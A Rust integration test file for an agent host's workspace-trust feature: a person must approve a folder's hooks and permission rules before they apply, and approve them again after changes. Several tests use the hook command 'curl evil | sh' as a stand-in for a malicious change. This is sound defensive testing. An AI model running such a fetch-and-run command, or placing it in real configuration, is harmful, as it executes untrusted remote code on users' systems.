//! Workspace trust in sessions: a person decides before a folder's configuration applies, and again when it changes.

use std::sync::Arc;

use crate::common::{Listener, Options, Rig, SESSION, dispatch};
use ahp_types::StateAction;
use ahp_types::actions::{ChatInputCompletedAction, ChatTurnResumeAction};
use ahp_types::state::ChatInputResponseKind::{self, Accept, Cancel, Decline};
use hostler_driver::{
    CloseMode, ConfigurationItem, ConfigurationKind, FolderConfiguration, FolderRule, GateDecision, GatedCall,
    PermissionGate, WorkspaceConfiguration,
};
use hostler_engine::{
    AgentPoolConfig, AgentPoolLimits, AgentPoolStatus, Dispatch, PermissionConfig, TrustDecision, TrustOptions,
    UnattendedAnswer, UnattendedPolicy,
};
use hostler_testkit::fake_driver::{FakeAgent, FakeAgentStart};
use hostler_testkit::stalled_disk::{StalledDisk, run_with_stallable_disk};
use hostler_trust::TrustStore;
use serde_json::value::RawValue;
use serde_json::{Value, json};

const OTHER: &str = "claude:/1b9e3c5e-8f2b-4a36-9f61-0e8f2b4a369f";

/// A configuration with one hook, whose fingerprint is its command, and two permission rules.
fn hook(command: &str) -> WorkspaceConfiguration {
    let item = ConfigurationItem {
        kind: ConfigurationKind::Hook,
        name: "SessionStart".into(),
        source: ".claude/settings.json".into(),
        hash: command.into(),
        blocked: None,
    };
    let rule = |effect: &str, pattern: &str| FolderRule { effect: effect.into(), pattern: pattern.into() };
    WorkspaceConfiguration {
        fingerprint: command.into(),
        items: vec![item],
        rules: vec![rule("allow", "Bash(make all)"), rule("deny", "Bash(ls)")],
        problem: None,
    }
}

fn applied(command: &str) -> FolderConfiguration {
    FolderConfiguration::Applied { fingerprint: command.into() }
}

/// Starts a host whose folders contain a hook.
async fn rig() -> Rig {
    rig_with(Options::default(), PermissionConfig::default()).await
}

async fn rig_with(options: Options, permissions: PermissionConfig) -> Rig {
    let rig = Rig::start_as(options, permissions).await;
    rig.starts.set_workspace(hook("make"));
    rig
}

/// Creates a session with a message, whose agent is not opened before a person decides.
async fn asked(rig: &Rig, uri: &str) -> (Listener, Question) {
    rig.create(uri);
    let mut listener = rig.listen(uri).await;
    rig.send_message(uri, "t1", "hi").await;
    let question = Question::next(&mut listener).await;
    (listener, question)
}

/// The pending question of a session.
struct Question {
    id: String,
    message: String,
    options: Vec<String>,
}

impl Question {
    async fn next(listener: &mut Listener) -> Self {
        listener.until("session/inputNeededSet").await;
        Self::shown(listener)
    }

    fn shown(listener: &Listener) -> Self {
        let session = session(listener);
        let [needed] = session["inputNeeded"].as_array().unwrap().as_slice() else { panic!("{session:#}") };
        let request = &needed["request"];
        let options = request["questions"][0]["options"].as_array().unwrap();
        Self {
            id: request["id"].as_str().unwrap().to_owned(),
            message: request["message"].as_str().unwrap().to_owned(),
            options: options.iter().map(|option| option["id"].as_str().unwrap().to_owned()).collect(),
        }
    }

    fn answer(&self, response: ChatInputResponseKind, option: Option<&str>) -> StateAction {
        let answers = option.map(|option| {
            let answer = json!({"state": "submitted", "value": {"kind": "selected", "value": option}});
            [("folder".to_owned(), serde_json::from_value(answer).unwrap())].into()
        });
        StateAction::ChatInputCompleted(ChatInputCompletedAction { request_id: self.id.clone(), response, answers })
    }
}

fn session(listener: &Listener) -> Value {
    serde_json::to_value(listener.session.as_ref().unwrap()).unwrap()
}

fn chat(listener: &Listener) -> Value {
    serde_json::to_value(listener.chat.as_ref().unwrap()).unwrap()
}

fn state(listener: &Listener) -> Value {
    session(listener)["_meta"]["hostler"]["trust"]["state"].clone()
}

async fn answer(rig: &Rig, uri: &str, question: &Question, option: &str) {
    let action = question.answer(Accept, Some(option));
    rig.engine.dispatch(Dispatch { client_id: "person".into(), ..dispatch(uri, action) }).await;
}

/// The trust file as another process changes it.
fn other_process(rig: &Rig) -> TrustStore {
    TrustStore::open(&rig.state, &TrustOptions::default())
}

async fn succeed(start: FakeAgentStart, prompt: &str) -> FakeAgent {
    let mut agent = start.succeed();
    assert_eq!(agent.next_prompt().await, prompt);
    agent
}

async fn finish(listener: &mut Listener, agent: &FakeAgent) {
    agent.emit_answer(1, "o", "k").await;
    listener.until("chat/turnComplete").await;
}

fn gated(gate: &Arc<dyn PermissionGate>, command: &str) -> GateDecision {
    let input = RawValue::from_string(json!({ "command": command }).to_string()).unwrap();
    gate.decide(&GatedCall { call_id: command, tool: "Bash", input: &input, sub_agent: None, cwd: None })
}

#[tokio::test]
async fn person_is_asked_once_and_the_agent_starts_with_the_trusted_configuration() {
    let mut rig = rig().await;
    let (mut listener, question) = asked(&rig, SESSION).await;
    assert_eq!(question.options, ["trust", "trust-subfolders", "restrict"]);
    assert!(question.message.contains("* Hook: `SessionStart` in `.claude/settings.json`"), "{}", question.message);
    assert_eq!(chat(&listener)["activity"], "Waiting for your decision about this folder");
    assert_eq!(state(&listener), "undecided");
    assert_eq!(rig.listed(), [SESSION], "every client sees the session that waits");
    assert_eq!(rig.starts.open_count(), 0);
    answer(&rig, SESSION, &question, "trust").await;
    let start = rig.starts.next_start().await;
    assert_eq!(start.spec.folder_configuration, applied("make"));
    let mut agent = succeed(start, "hi").await;
    finish(&mut listener, &agent).await;
    assert_eq!(state(&listener), "trusted");
    assert_eq!(session(&listener)["inputNeeded"], Value::Null);
    let trust = &session(&listener)["_meta"]["hostler"]["trust"];
    let real = std::fs::canonicalize(&rig.work).unwrap();
    assert_eq!((&trust["directory"], &trust["items"]), (&json!(real), &json!(1)));
    let audit = rig.engine.audit(SESSION, 0, 100).await.unwrap();
    let entry = &audit.first().unwrap().entry;
    assert_eq!((&*entry.decided_by, &*entry.tool, &*entry.decision), ("person", "trust", "allow"));

    rig.send_message(SESSION, "t2", "again").await;
    assert_eq!(agent.next_prompt().await, "again", "nothing is asked a second time");
    finish(&mut listener, &agent).await;
    let mut rig = rig.restart().await;
    rig.starts.set_workspace(hook("make"));
    rig.create(OTHER);
    rig.send_message(OTHER, "t1", "hi").await;
    assert_eq!(rig.starts.next_start().await.spec.folder_configuration, applied("make"), "the decision is remembered");
    rig.engine.shutdown().await;
}

#[tokio::test]
async fn each_answer_stores_its_decision() {
    for (option, expected, decision) in [
        ("trust", applied("make"), TrustDecision::Trust),
        ("trust-subfolders", applied("make"), TrustDecision::TrustSubfolders),
        ("restrict", FolderConfiguration::Ignored, TrustDecision::Restrict),
    ] {
        let mut rig = rig().await;
        let (_listener, question) = asked(&rig, SESSION).await;
        answer(&rig, SESSION, &question, option).await;
        assert_eq!(rig.starts.next_start().await.spec.folder_configuration, expected, "{option}");
        let stored = rig.engine.list_trust().await.unwrap().entries;
        assert_eq!(stored.iter().map(|entry| entry.decision).collect::<Vec<_>>(), [decision]);
        let sub = rig.work.join("sub");
        std::fs::create_dir(&sub).unwrap();
        let below = rig.engine.check_trust(sub.to_str().unwrap(), None).await.unwrap();
        let inherited = match decision {
            TrustDecision::Trust => "undecided",
            TrustDecision::TrustSubfolders => "trusted",
            TrustDecision::Restrict => "restricted",
        };
        assert_eq!(below.state.name(), inherited, "{option}");
        rig.engine.shutdown().await;
    }
}

#[tokio::test]
async fn invalid_answer_is_refused_and_the_question_stays() {
    let mut rig = rig().await;
    let (mut listener, question) = asked(&rig, SESSION).await;
    for option in [None, Some("yes")] {
        rig.engine.dispatch(dispatch(SESSION, question.answer(Accept, option))).await;
        listener.until("chat/inputCompleted rejected").await;
    }
    assert_eq!(rig.starts.open_count(), 0);
    answer(&rig, SESSION, &question, "restrict").await;
    assert_eq!(rig.starts.next_start().await.spec.folder_configuration, FolderConfiguration::Ignored);
    rig.engine.shutdown().await;
}

#[test]
fn a_decision_that_is_stored_slowly_delays_neither_another_answer_nor_a_cancel() {
    run_with_stallable_disk(async {
        let rig = rig().await;
        let (mut listener, question) = asked(&rig, SESSION).await;
        let stall = StalledDisk::start().await;
        answer(&rig, SESSION, &question, "trust").await;
        rig.engine.dispatch(dispatch(SESSION, question.answer(Accept, Some("restrict")))).await;
        listener.until("chat/inputCompleted rejected: the request is no longer pending").await;
        assert_eq!(Question::shown(&listener).id, question.id, "the decision is not stored yet");
        rig.cancel(SESSION, "t1").await;
        listener.until("chat/turnCancelled").await;
        drop(stall);
        listener.until("chat/inputCompleted rejected: the request is no longer pending").await;
        assert_eq!(rig.starts.open_count(), 0);
        rig.engine.shutdown().await;
    });
}

#[tokio::test]
async fn declined_question_restricts_the_session_and_stores_nothing() {
    for response in [Cancel, Decline] {
        let mut rig = rig().await;
        let (mut listener, question) = asked(&rig, SESSION).await;
        rig.engine.dispatch(dispatch(SESSION, question.answer(response, None))).await;
        let start = rig.starts.next_start().await;
        assert_eq!(start.spec.folder_configuration, FolderConfiguration::Ignored);
        let mut agent = succeed(start, "hi").await;
        finish(&mut listener, &agent).await;
        assert_eq!(state(&listener), "restricted");
        assert!(rig.engine.list_trust().await.unwrap().entries.is_empty());
        // Not asked again in this session, even if the configuration changes; another session asks.
        rig.starts.set_workspace(hook("other"));
        rig.send_message(SESSION, "t2", "again").await;
        assert_eq!(agent.next_prompt().await, "again");
        asked(&rig, OTHER).await;
        rig.engine.shutdown().await;
    }
}

#[tokio::test]
async fn cancelling_the_turn_withdraws_the_question_and_the_next_message_asks_again() {
    let rig = rig().await;
    let (mut listener, question) = asked(&rig, SESSION).await;
    rig.cancel(SESSION, "t1").await;
    listener.until("chat/turnCancelled").await;
    answer(&rig, SESSION, &question, "trust").await;
    listener.until("chat/inputCompleted rejected").await;
    assert!(rig.engine.list_trust().await.unwrap().entries.is_empty(), "an answer that comes too late decides nothing");
    rig.send_message(SESSION, "t2", "again").await;
    let again = Question::next(&mut listener).await;
    assert_ne!(again.id, question.id);
    assert_eq!(rig.starts.open_count(), 0);
    rig.engine.shutdown().await;
}

#[tokio::test]
async fn question_is_repeated_when_the_turn_is_resumed_after_a_crash() {
    let rig = rig().await;
    let (_listener, question) = asked(&rig, SESSION).await;
    let mut rig = rig.crash().await;
    rig.starts.set_workspace(hook("make"));
    let mut listener = rig.listen(SESSION).await;
    assert_eq!(session(&listener)["inputNeeded"], Value::Null);
    let resume = ChatTurnResumeAction { turn_id: "t1".into() };
    rig.engine.dispatch(dispatch(SESSION, StateAction::ChatTurnResume(resume))).await;
    let again = Question::next(&mut listener).await;
    assert_ne!(again.id, question.id);
    answer(&rig, SESSION, &again, "trust").await;
    let start = rig.starts.next_start().await;
    assert_eq!(start.spec.folder_configuration, applied("make"));
    succeed(start, "hi").await;
    rig.engine.shutdown().await;
}

#[tokio::test]
async fn one_answer_applies_to_all_waiting_sessions_of_the_folder() {
    let mut rig = rig().await;
    let (_first, question) = asked(&rig, SESSION).await;
    let (mut second, _) = asked(&rig, OTHER).await;
    answer(&rig, SESSION, &question, "trust").await;
    for _ in 0..2 {
        assert_eq!(rig.starts.next_start().await.spec.folder_configuration, applied("make"));
    }
    second.until("session/inputNeededRemoved").await;
    let entry = loop {
        // The audit entry is written after the publication.
        let audit = rig.engine.audit(OTHER, 0, 100).await.unwrap();
        match audit.into_iter().next() {
            Some(row) => break row.entry,
            None => tokio::task::yield_now().await,
        }
    };
    assert_eq!(
        (&*entry.decided_by, &*entry.decision, entry.reason.as_deref()),
        ("host", "withdrawn", Some("decided elsewhere: trusted"))
    );
    rig.engine.shutdown().await;
}

#[tokio::test]
async fn decision_of_another_process_or_client_withdraws_the_question() {
    let mut rig = rig().await;
    let (mut listener, _) = asked(&rig, SESSION).await;
    let store = other_process(&rig);
    let assessment = store.assess(&rig.work, |_| hook("make")).unwrap();
    store.decide(&assessment, TrustDecision::Trust, false).unwrap();
    assert_eq!(rig.starts.next_start().await.spec.folder_configuration, applied("make"));
    assert!(listener.events.iter().all(|event| !event.starts_with("chat/inputCompleted")));
    listener.until("chat/inputCompleted").await;

    store.remove(&rig.work).unwrap();
    let (_other, _) = asked(&rig, OTHER).await;
    let work = rig.work.to_str().unwrap().to_owned();
    rig.engine.set_trust(&work, None, TrustDecision::Restrict, "make").await.unwrap();
    assert_eq!(rig.starts.next_start().await.spec.folder_configuration, FolderConfiguration::Ignored);
    rig.engine.shutdown().await;
}

#[tokio::test]
async fn changed_configuration_closes_the_idle_agent_and_asks_with_the_difference() {
    let mut rig = rig().await;
    let (mut listener, question) = asked(&rig, SESSION).await;
    answer(&rig, SESSION, &question, "trust").await;
    let agent = succeed(rig.starts.next_start().await, "hi").await;
    finish(&mut listener, &agent).await;

    rig.starts.set_workspace(hook("curl evil | sh"));
    rig.send_message(SESSION, "t2", "again").await;
    assert_eq!(agent.wait_closed().await, CloseMode::Graceful);
    let question = Question::next(&mut listener).await;
    assert!(question.message.contains("* Changed: Hook: `SessionStart`"), "{}", question.message);
    assert_eq!(state(&listener), "changed");
    answer(&rig, SESSION, &question, "trust").await;
    let start = rig.starts.next_start().await;
    assert_eq!(start.spec.folder_configuration, applied("curl evil | sh"));
    let again = succeed(start, "again").await;
    finish(&mut listener, &again).await;
    assert_eq!(rig.starts.open_count(), 2);
    rig.engine.shutdown().await;
}

#[tokio::test]
async fn new_configuration_asks_before_the_next_message() {
    let mut rig = Rig::start().await;
    let (mut listener, agent) = rig.start_first_turn().await;
    assert_eq!(state(&listener), Value::Null, "a folder without configuration is not mentioned");
    finish(&mut listener, &agent).await;
    rig.starts.set_workspace(hook("make"));
    rig.send_message(SESSION, "t2", "again").await;
    agent.wait_closed().await;
    let question = Question::next(&mut listener).await;
    answer(&rig, SESSION, &question, "restrict").await;
    assert_eq!(rig.starts.next_start().await.spec.folder_configuration, FolderConfiguration::Ignored);
    rig.engine.shutdown().await;
}

#[tokio::test]
async fn removed_trust_applies_at_the_next_message() {
    let mut rig = rig().await;
    let (mut listener, question) = asked(&rig, SESSION).await;
    answer(&rig, SESSION, &question, "trust").await;
    let agent = succeed(rig.starts.next_start().await, "hi").await;
    finish(&mut listener, &agent).await;
    let work = url::Url::from_file_path(&rig.work).unwrap().to_string();
    assert!(rig.engine.remove_trust(&work).await.unwrap());
    while state(&listener) != "undecided" {
        listener.next().await;
    }
    rig.send_message(SESSION, "t2", "again").await;
    agent.wait_closed().await;
    Question::next(&mut listener).await;
    rig.engine.shutdown().await;
}

#[tokio::test]
async fn answer_about_a_changed_configuration_is_refused_and_asked_again() {
    let mut rig = rig().await;
    let (mut listener, question) = asked(&rig, SESSION).await;
    rig.starts.set_workspace(hook("curl evil | sh"));
    answer(&rig, SESSION, &question, "trust").await;
    listener.until("chat/inputCompleted rejected: the configuration of this folder has changed").await;
    assert!(rig.engine.list_trust().await.unwrap().entries.is_empty());
    while Question::try_shown(&listener).is_none_or(|now| now == question.id) {
        listener.next().await;
    }
    let again = Question::shown(&listener);
    answer(&rig, SESSION, &again, "trust").await;
    assert_eq!(rig.starts.next_start().await.spec.folder_configuration, applied("curl evil | sh"));
    let work = rig.work.to_str().unwrap();
    let stale = rig.engine.set_trust(work, None, TrustDecision::Trust, "make").await.unwrap_err();
    assert!(stale.to_string().contains("has changed; review it again"), "{stale}");
    rig.engine.shutdown().await;
}

impl Question {
    fn try_shown(listener: &Listener) -> Option<String> {
        Some(session(listener)["inputNeeded"][0]["request"]["id"].as_str()?.to_owned())
    }
}

#[tokio::test]
async fn start_without_the_trusted_configuration_asks_before_the_message() {
    let mut rig = rig().await;
    let (mut listener, question) = asked(&rig, SESSION).await;
    answer(&rig, SESSION, &question, "trust").await;
    let start = rig.starts.next_start().await;
    // The files change after the assessment: the driver starts without them and reports it.
    rig.starts.set_workspace(hook("curl evil | sh"));
    let gate = Arc::clone(&start.spec.permission_gate);
    let agent = start.succeed_with_configuration(Vec::new(), false);
    agent.wait_closed().await;
    assert_eq!(gated(&gate, "make all"), GateDecision::Ask, "its rules do not count either");
    let again = Question::next(&mut listener).await;
    assert!(again.message.contains("Changed"), "{}", again.message);
    rig.engine.shutdown().await;
}

#[tokio::test]
async fn start_is_repeated_if_the_trusted_configuration_was_not_applied() {
    let mut rig = rig().await;
    let (_listener, question) = asked(&rig, SESSION).await;
    answer(&rig, SESSION, &question, "trust").await;
    // The files were different for a moment.
    rig.starts.next_start().await.succeed_with_configuration(Vec::new(), false).wait_closed().await;
    let start = rig.starts.next_start().await;
    assert_eq!(start.spec.folder_configuration, applied("make"));
    succeed(start, "hi").await;
    rig.engine.shutdown().await;
}

#[tokio::test]
async fn decision_during_a_start_applies_before_the_message() {
    let mut rig = rig().await;
    let (mut listener, question) = asked(&rig, SESSION).await;
    answer(&rig, SESSION, &question, "trust").await;
    let start = rig.starts.next_start().await;
    assert!(rig.engine.remove_trust(rig.work.to_str().unwrap()).await.unwrap());
    start.succeed_with_configuration(Vec::new(), true).wait_closed().await;
    Question::next(&mut listener).await;
    rig.engine.shutdown().await;
}

#[tokio::test]
async fn folder_rules_apply_only_when_trusted() {
    for (option, make, ls) in [
        ("restrict", GateDecision::Ask, GateDecision::Allow),
        ("trust", GateDecision::Allow, GateDecision::Deny(String::new())),
    ] {
        let mut rig = rig().await;
        let (mut listener, question) = asked(&rig, SESSION).await;
        answer(&rig, SESSION, &question, option).await;
        let start = rig.starts.next_start().await;
        let gate = Arc::clone(&start.spec.permission_gate);
        let agent = succeed(start, "hi").await;
        assert_eq!(gated(&gate, "make all"), make, "{option}");
        assert_eq!(std::mem::discriminant(&gated(&gate, "ls")), std::mem::discriminant(&ls), "{option}");
        if option == "trust" {
            finish(&mut listener, &agent).await;
            rig.engine.remove_trust(rig.work.to_str().unwrap()).await.unwrap();
            rig.send_message(SESSION, "t2", "again").await;
            let question = Question::next(&mut listener).await;
            answer(&rig, SESSION, &question, "restrict").await;
            succeed(rig.starts.next_start().await, "again").await;
            assert_eq!(gated(&gate, "make all"), GateDecision::Ask, "they go with the trust");
        }
        rig.engine.shutdown().await;
    }
}

#[tokio::test]
async fn unattended_host_never_trusts() {
    for answer in [UnattendedAnswer::Allow, UnattendedAnswer::Deny("no".into())] {
        let permissions =
            PermissionConfig { unattended: UnattendedPolicy::Answer(answer), ..PermissionConfig::default() };
        let mut rig = rig_with(Options::default(), permissions).await;
        rig.create(SESSION);
        let mut listener = rig.listen(SESSION).await;
        rig.send_message(SESSION, "t1", "hi").await;
        let start = rig.starts.next_start().await;
        assert_eq!(start.spec.folder_configuration, FolderConfiguration::Ignored);
        let agent = succeed(start, "hi").await;
        finish(&mut listener, &agent).await;
        assert_eq!(state(&listener), "restricted");
        assert!(rig.engine.list_trust().await.unwrap().entries.is_empty());
        rig.engine.shutdown().await;
    }
}

#[tokio::test]
async fn folders_in_the_host_configuration_are_trusted_without_a_question() {
    let dir = tempfile::tempdir().unwrap();
    let trust = TrustOptions { trusted_folders: vec![dir.path().to_owned()], home: None };
    let mut rig = rig_with(Options { trust, ..Options::default() }, PermissionConfig::default()).await;
    let sub = dir.path().join("sub");
    std::fs::create_dir(&sub).unwrap();
    rig.work = sub;
    rig.create(SESSION);
    rig.send_message(SESSION, "t1", "hi").await;
    assert_eq!(rig.starts.next_start().await.spec.folder_configuration, applied("make"));
    rig.engine.shutdown().await;
}

#[tokio::test]
async fn home_directory_is_never_asked_about() {
    let home = tempfile::tempdir().unwrap();
    let trust = TrustOptions { trusted_folders: Vec::new(), home: Some(home.path().to_owned()) };
    let mut rig = rig_with(Options { trust, ..Options::default() }, PermissionConfig::default()).await;
    rig.work = home.path().to_owned();
    rig.create(SESSION);
    rig.send_message(SESSION, "t1", "hi").await;
    assert_eq!(rig.starts.next_start().await.spec.folder_configuration, FolderConfiguration::Ignored);
    let refused = rig.engine.set_trust(home.path().to_str().unwrap(), None, TrustDecision::Trust, "make").await;
    assert!(refused.unwrap_err().to_string().contains("full path"));
    rig.engine.shutdown().await;
}

#[tokio::test]
async fn changed_inherited_configuration_asks_again() {
    let mut rig = rig().await;
    let top = rig.work.clone();
    rig.engine.set_trust(top.to_str().unwrap(), None, TrustDecision::TrustSubfolders, "make").await.unwrap();
    rig.work = top.join("sub");
    std::fs::create_dir(&rig.work).unwrap();
    rig.create(SESSION);
    let mut listener = rig.listen(SESSION).await;
    rig.send_message(SESSION, "t1", "hi").await;
    let start = rig.starts.next_start().await;
    assert_eq!(start.spec.folder_configuration, applied("make"));
    let agent = succeed(start, "hi").await;
    finish(&mut listener, &agent).await;
    rig.starts.set_workspace(hook("curl evil | sh"));
    rig.send_message(SESSION, "t2", "again").await;
    let question = Question::next(&mut listener).await;
    assert!(question.message.contains("Changed"), "{}", question.message);
    rig.engine.shutdown().await;
}

#[tokio::test]
async fn no_agent_is_prewarmed_while_trust_is_undecided() {
    let agent_pool = AgentPoolConfig { prewarm: true, ..AgentPoolConfig::default() };
    let mut rig = rig_with(Options { agent_pool, ..Options::default() }, PermissionConfig::default()).await;
    rig.create(SESSION);
    let mut listener = rig.listen(SESSION).await;
    // The state may have been published before the client subscribed.
    if state(&listener) == Value::Null {
        listener.until("session/metaChanged").await;
    }
    assert_eq!(state(&listener), "undecided");
    assert_eq!(session(&listener)["inputNeeded"], Value::Null);
    while rig.engine.agent_pool_status() != AgentPoolStatus::default() {
        tokio::task::yield_now().await;
    }
    assert_eq!(rig.starts.open_count(), 0);
    let work = rig.work.to_str().unwrap().to_owned();
    rig.engine.set_trust(&work, None, TrustDecision::Trust, "make").await.unwrap();
    let _second = rig.listen(SESSION).await;
    let start = rig.starts.next_start().await;
    assert_eq!(start.spec.folder_configuration, applied("make"), "what is trusted is opened ahead");
    let mut warm = start.succeed();
    // The folder is assessed again before the agent gets its first message.
    rig.starts.set_workspace(hook("curl evil | sh"));
    while rig.engine.agents().is_empty() {
        tokio::task::yield_now().await;
    }
    rig.send_message(SESSION, "t1", "hi").await;
    Question::next(&mut listener).await;
    assert!(warm.is_closed() && warm.prompts.try_recv().is_err());
    rig.engine.shutdown().await;
}

#[tokio::test]
async fn session_that_waits_for_a_decision_uses_no_slot() {
    let agent_pool = AgentPoolConfig {
        limits: AgentPoolLimits { max_agents: 1, ..AgentPoolLimits::default() },
        ..AgentPoolConfig::default()
    };
    let mut rig = rig_with(Options { agent_pool, ..Options::default() }, PermissionConfig::default()).await;
    let (_listener, question) = asked(&rig, SESSION).await;
    rig.starts.set_workspace(WorkspaceConfiguration::default());
    rig.create(OTHER);
    let mut other = rig.listen(OTHER).await;
    rig.send_message(OTHER, "t1", "hi").await;
    let agent = succeed(rig.starts.next_start().await, "hi").await;
    rig.starts.set_workspace(hook("make"));
    answer(&rig, SESSION, &question, "trust").await;
    finish(&mut other, &agent).await;
    let start = rig.starts.next_start().await;
    assert_eq!(start.spec.folder_configuration, applied("make"));
    rig.engine.shutdown().await;
}

#[tokio::test]
async fn unreadable_trust_file_restricts_with_a_reason() {
    let mut rig = rig().await;
    std::fs::write(rig.state.join("trust.toml"), "folder = nonsense").unwrap();
    rig.create(SESSION);
    let mut listener = rig.listen(SESSION).await;
    rig.send_message(SESSION, "t1", "hi").await;
    let start = rig.starts.next_start().await;
    assert_eq!(start.spec.folder_configuration, FolderConfiguration::Ignored);
    let agent = succeed(start, "hi").await;
    finish(&mut listener, &agent).await;
    assert_eq!(state(&listener), "refused");
    let checked = rig.engine.check_trust(rig.work.to_str().unwrap(), None).await.unwrap();
    let report = serde_json::to_value(checked.report()).unwrap();
    assert!(report["reason"].as_str().unwrap().contains("trust.toml"), "{report}");
    assert!(rig.engine.list_trust().await.is_err());
    rig.engine.shutdown().await;
}

#[tokio::test]
async fn missing_folder_is_a_request_error() {
    let rig = rig().await;
    let missing = rig.work.join("missing");
    let error = rig.engine.check_trust(missing.to_str().unwrap(), None).await.unwrap_err();
    assert!(error.to_string().contains("is not a readable folder"), "{error}");
    assert!(rig.engine.check_trust("relative", None).await.is_err());
    assert!(rig.engine.check_trust(rig.work.to_str().unwrap(), Some("unknown")).await.is_err());
    assert!(!rig.engine.remove_trust(missing.to_str().unwrap()).await.unwrap());
    rig.engine.shutdown().await;
}
